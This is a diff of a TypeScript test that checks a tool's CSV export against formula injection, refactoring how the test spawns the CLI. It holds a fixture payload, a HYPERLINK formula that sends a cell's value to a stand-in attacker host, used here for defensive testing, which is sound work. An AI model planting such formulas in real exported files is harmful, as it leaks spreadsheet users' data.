@@ -13,9 +13,9 @@ import { SINGLE_TOOL_SPLIT } from '../stages/toole/records.ts';
 import { reviewSamples } from './fixtures/review/dataset.ts';
 import { tempDirs } from './helpers/files.ts';
 import { TOOLE_FIXTURE_CONFIG } from './helpers/toole-fixture.ts';
+import { toolkilnProcess } from './helpers/toolkiln-process.ts';
 
 const tmp = tempDirs('tk-csv-injection-');
-const bin = new URL('../bin/toolkiln.js', import.meta.url).pathname;
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"click")';
 
@@ -146,9 +146,9 @@ describe.skipIf(!ssconvert)('CSV files opened in Gnumeric evaluate no cell (skip
   it('a review edit typed as \'=HYPERLINK(…) reaches ToolE\'s all_clean_data.csv as text (real CLI processes)', () => {
     const home = tmp();
     const cli = (...args: string[]) => {
-      const run = spawnSync(process.execPath, [bin, ...args], { cwd: home, encoding: 'utf8', env: { ...process.env, TOOLKILN_HOME: home, OPENAI_API_KEY: '', OPENAI_BASE_URL: '' } });
-      expect(run.status, `${args.join(' ')}: ${run.stderr}`).toBe(0);
-      return run.stdout;
+      const run = toolkilnProcess(home, args);
+      expect(run.code, `${args.join(' ')}: ${run.err}`).toBe(0);
+      return run.out;
     };
     writeFileSync(join(home, 'toole.json'), JSON.stringify(TOOLE_FIXTURE_CONFIG));
     cli('run', 'toole', '--config', 'toole.json', '--quiet');
